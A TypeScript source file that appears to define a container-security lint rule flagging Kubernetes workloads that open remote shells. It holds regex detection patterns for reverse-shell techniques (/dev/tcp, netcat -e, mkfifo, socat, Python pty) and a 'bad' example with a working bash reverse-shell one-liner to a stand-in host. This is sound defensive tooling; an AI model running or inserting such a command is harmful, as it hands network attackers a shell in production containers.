import { commandsOf } from './command-text.ts';
import { containerCheck, podExample } from './workload-check.ts';

const REMOTE_SHELLS: readonly RegExp[] = [
  // bash -i >& /dev/tcp/host/port
  /\/dev\/(?:tcp|udp)\/[^\s/]{1,253}\/[0-9]{1,5}/,
  // nc -e /bin/sh, ncat --exec, nc … -c sh
  /\b(?:nc|ncat|netcat)\b[^\n;|&]{0,200}\s(?:-[a-z]{0,6}[ec]|--(?:sh-)?exec)\s+\S{0,20}(?:sh|bash|cmd)\b/,
  // mkfifo f; … | nc host port > f
  /\bmkfifo\b[^\n]{0,200}\|\s*(?:nc|ncat|netcat)\b/,
  // socat … EXEC:sh
  /\bsocat\b[^\n]{0,300}\b(?:exec|system):[^\n]{0,40}sh\b/i,
  /\bimport\s+(?:pty|socket)\b[^\n]{0,500}\b(?:pty\.spawn|os\.dup2|subprocess)/,
];

export const remoteShell = containerCheck(
  {
    id: 'workload/remote-shell',
    title: 'Container opens a remote shell',
    severity: 'critical',
    rationale: 'The command gives a shell in the container to someone on the network. It has no use in production.',
    remediation: 'Find out who wrote it, and treat the namespace as broken into until you know. Then remove it.',
    examples: {
      bad: podExample({ container: 'command: ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]' }),
      good: podExample({ container: 'command: ["/usr/local/bin/web"]' }),
    },
    references: [
      {
        title: 'MITRE ATT&CK: Command and Scripting Interpreter, Unix Shell',
        url: 'https://attack.mitre.org/techniques/T1059/004/',
      },
    ],
  },
  function* ({ container }) {
    for (const { path, text } of commandsOf(container)) {
      if (REMOTE_SHELLS.some((pattern) => pattern.test(text))) yield { path, message: 'opens a shell to the network' };
    }
  },
);
